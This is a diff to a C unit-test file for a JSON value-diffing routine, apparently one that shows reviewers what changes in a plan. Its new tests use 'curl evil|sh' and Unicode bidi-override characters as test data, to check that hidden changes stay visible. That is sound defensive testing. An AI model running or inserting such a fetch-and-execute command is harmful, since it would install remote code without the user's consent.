@@ -3,6 +3,7 @@
 #include "engine/base/json.h"
 #include "engine/base/limits.h"
 #include "engine/base/mem.h"
+#include "engine/base/str.h"
 #include "test/unit/suite.h"
 
 static const struct value *parse(const char *text)
@@ -36,7 +37,7 @@ static void names_fields(void)
         _cleanup_value_ const struct value *from = parse(rows[i].from), *to = parse(rows[i].to);
         struct diff diff;
 
-        diff_values(from, to, &diff);
+        diff_values(from, to, &diff_brief, &diff);
         EXPECT_INT((long long)diff.total, rows[i].path ? 1 : 0,
                    rows[i].to ? rows[i].to : "deleted");
         if (diff.n_fields) {
@@ -56,10 +57,10 @@ static void tells_unknown_values_from_their_text(void)
                                        *text = value_pack("{s:s}", "a", VALUE_UNKNOWN_TEXT);
     struct diff diff;
 
-    diff_values(unknown, again, &diff);
+    diff_values(unknown, again, &diff_brief, &diff);
     EXPECT_INT((long long)diff.total, 0, "unknown before and after");
     diff_done(&diff);
-    diff_values(text, unknown, &diff);
+    diff_values(text, unknown, &diff_brief, &diff);
     EXPECT_INT((long long)diff.total, 1, "the text, and unknown");
     EXPECT_STR(diff.fields[0].from, "\"" VALUE_UNKNOWN_TEXT "\"", "the text, for people");
     EXPECT_STR(diff.fields[0].to, VALUE_UNKNOWN_TEXT, "unknown, for people");
@@ -73,8 +74,8 @@ static void is_bounded(void)
         size_t key_bytes, n_fields, most, least;
     } rows[] = {
         {"short ones", 10, 300, LIMIT_DIFF_FIELDS, LIMIT_DIFF_FIELDS},
-        {"below a long key", 100000, 300, 4, 1},
-        {"below one that is too long", LIMIT_DIFF_BYTES + 1, 300, 1, 1},
+        {"below a long key", 100000, 300, 2, 1},
+        {"below one that is too long", LIMIT_DIFF_BYTES + 1, 300, 0, 0},
     };
 
     for (size_t i = 0; i < ARRAY_SIZE(rows); i++) {
@@ -92,11 +93,99 @@ static void is_bounded(void)
         value_end_array(b);
         value_end_object(b);
         value_builder_finish(b, &to, NULL);
-        diff_values(from, to, &diff);
+        diff_values(from, to, &diff_brief, &diff);
         EXPECT_INT((long long)diff.total, (long long)rows[i].n_fields, rows[i].note);
         EXPECT(diff.n_fields <= rows[i].most && diff.n_fields >= rows[i].least, rows[i].note);
         diff_done(&diff);
     }
 }
 
-SUITE(diff, TEST(names_fields), TEST(tells_unknown_values_from_their_text), TEST(is_bounded))
+/* A person approves them: nobody fills them up before what is run. */
+static void puts_labels_and_annotations_last(void)
+{
+    static const char *const paths[] = {"apiVersion",       "spec.image",
+                                        "zeal.a",           "metadata.name",
+                                        "metadata.uid",     "metadata.annotations.a",
+                                        "metadata.labels.b"};
+    _cleanup_value_ const struct value *to =
+        parse("{\"apiVersion\":\"v1\",\"metadata\":{\"annotations\":{\"a\":\"1\"},\"labels\":{"
+              "\"b\":\"2\"},"
+              "\"name\":\"n\",\"uid\":\"u\"},\"spec\":{\"image\":\"evil\"},\"zeal\":{\"a\":1}}");
+    struct diff diff;
+
+    diff_values(NULL, to, &diff_brief, &diff);
+    EXPECT_INT((long long)diff.n_fields, ARRAY_SIZE(paths), "all");
+    for (size_t i = 0; i < diff.n_fields; i++)
+        EXPECT_STR(diff.fields[i].path, paths[i], "in this order");
+    diff_done(&diff);
+}
+
+static const struct value *script(size_t filler, const char *line)
+{
+    _cleanup_buf_ struct buf text = BUF_INIT;
+
+    buf_add_str(&text, "#!/bin/sh\n# ");
+    for (size_t i = 0; i < filler; i++)
+        buf_add_str(&text, "-");
+    buf_printf(&text, "\n%s", line);
+    return value_pack("{s:s}", "run", text.data);
+}
+
+/* Whatever the bounds: two sides that differ never look the same. */
+static void shows_where_long_values_differ(void)
+{
+    static const struct diff_bounds whole = {SIZE_MAX, 1u << 20, SIZE_MAX};
+    static const struct {
+        const struct diff_bounds *bounds;
+        const char *from, *to, *shown_from, *shown_to;
+    } rows[] = {
+        {&diff_brief, "echo good", "curl evil|sh", "…319 bytes…echo good\"",
+         "…319 bytes…curl evil|sh\""},
+        {&whole, "echo good", "curl evil|sh", "…319 bytes…echo good\"",
+         "…319 bytes…curl evil|sh\""},
+        {&whole, "\\n\u202e", "\\n\u202d", "…319 bytes…\\\\n\\u202e\"",
+         "…319 bytes…\\\\n\\u202d\""},
+    };
+
+    for (size_t i = 0; i < ARRAY_SIZE(rows); i++) {
+        _cleanup_value_ const struct value *from = script(303, rows[i].from),
+                                           *to = script(303, rows[i].to);
+        struct diff diff;
+
+        diff_values(from, to, rows[i].bounds, &diff);
+        EXPECT_INT((long long)diff.n_fields, 1, rows[i].to);
+        EXPECT_STR(diff.fields[0].from, rows[i].shown_from, "from");
+        EXPECT_STR(diff.fields[0].to, rows[i].shown_to, "to");
+        diff_done(&diff);
+    }
+}
+
+/* What differs in two places is shown from the first to the last of them. */
+static void shows_all_that_differs_of_a_whole_plan(void)
+{
+    static const struct diff_bounds whole = {SIZE_MAX, 1u << 20, SIZE_MAX};
+    _cleanup_buf_ struct buf before = BUF_INIT, after = BUF_INIT;
+    _cleanup_value_ const struct value *from = NULL, *to = NULL;
+    struct diff diff;
+
+    for (size_t i = 0; i < 5000; i++) {
+        buf_add_str(&before, i == 1000 ? "first" : i == 4000 ? "harmless" : "x");
+        buf_add_str(&after, i == 1000 ? "second" : i == 4000 ? "evil" : "x");
+    }
+    from = value_pack("{s:s}", "a", before.data);
+    to = value_pack("{s:s}", "a", after.data);
+    diff_values(from, to, &whole, &diff);
+    EXPECT(strstr(diff.fields[0].to, "second") && strstr(diff.fields[0].to, "evil"), "both");
+    EXPECT(strlen(diff.fields[0].to) < 3500, "and not what is the same");
+    diff_done(&diff);
+    diff_values(NULL, to, &whole, &diff);
+    EXPECT(strstr(diff.fields[0].to, "evil") != NULL, "a new value is shown whole");
+    diff_done(&diff);
+    diff_values(NULL, to, &diff_brief, &diff);
+    EXPECT(str_has_suffix(diff.fields[0].to, "…and 4754 bytes"), diff.fields[0].to);
+    diff_done(&diff);
+}
+
+SUITE(diff, TEST(names_fields), TEST(tells_unknown_values_from_their_text), TEST(is_bounded),
+      TEST(puts_labels_and_annotations_last), TEST(shows_where_long_values_differ),
+      TEST(shows_all_that_differs_of_a_whole_plan))
